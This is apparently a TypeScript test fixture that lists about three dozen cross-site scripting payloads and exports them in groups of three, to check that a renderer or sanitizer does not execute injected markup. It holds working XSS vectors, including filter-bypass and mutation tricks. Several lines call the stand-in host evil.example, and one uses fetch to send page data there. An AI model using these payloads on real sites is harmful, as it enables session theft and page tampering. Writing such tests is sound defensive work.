/**
 * Text that runs code if it is parsed as markup, an attribute, a URL, a style or a script. Each would set the global
 * `taken`, open a dialog, or send a request.
 */
const PAYLOADS = [
  '<script>taken=1</script>',
  '<img src=x onerror=taken=1>',
  '<svg onload=taken=1>',
  '<svg><animate onbegin=taken=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.taken=1</script>"></iframe>',
  '<iframe src="javascript:parent.taken=1"></iframe>',
  '<a href="javascript:taken=1" autofocus onfocus=taken=1>x</a>',
  '<details open ontoggle=taken=1>x</details>',
  '<input autofocus onfocus=taken=1>',
  '<video><source onerror=taken=1></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=taken=1>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<form action="//evil.example/"><button autofocus onfocus=taken=1>',
  '<style>@import url(//evil.example/b.css);</style>',
  '<object data="javascript:taken=1"></object>',
  '<template><script>taken=1</script></template>',
  '"><script>taken=1</script>',
  "'><img src=x onerror=taken=1>",
  '" onmouseover="taken=1" style="position:fixed;inset:0" x="',
  "' autofocus onfocus='taken=1",
  '--><script>taken=1</script><!--',
  ']]><script>taken=1</script>',
  '</textarea></title></style></noscript></bdi><script>taken=1</script>',
  '{{constructor.constructor("taken=1")()}}',
  '${taken=1}',
  'javascript:taken=1',
  'data:text/html,<script>opener.taken=1</script>',
  '&lt;img src=x onerror=taken=1&gt;',
  '\\u003cscript\\u003etaken=1\\u003c/script\\u003e',
  '<scr<script>ipt>taken=1</scr</script>ipt>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=x onerror=fetch("//evil.example/"+document.title)>',
  '__proto__',
];

const AT_ONCE = 3;

/** Some for each test. */
export const XSS_PAYLOADS: readonly (readonly string[])[] = Array.from(
  { length: Math.ceil(PAYLOADS.length / AT_ONCE) },
  (_, part) => PAYLOADS.slice(part * AT_ONCE, (part + 1) * AT_ONCE),
);
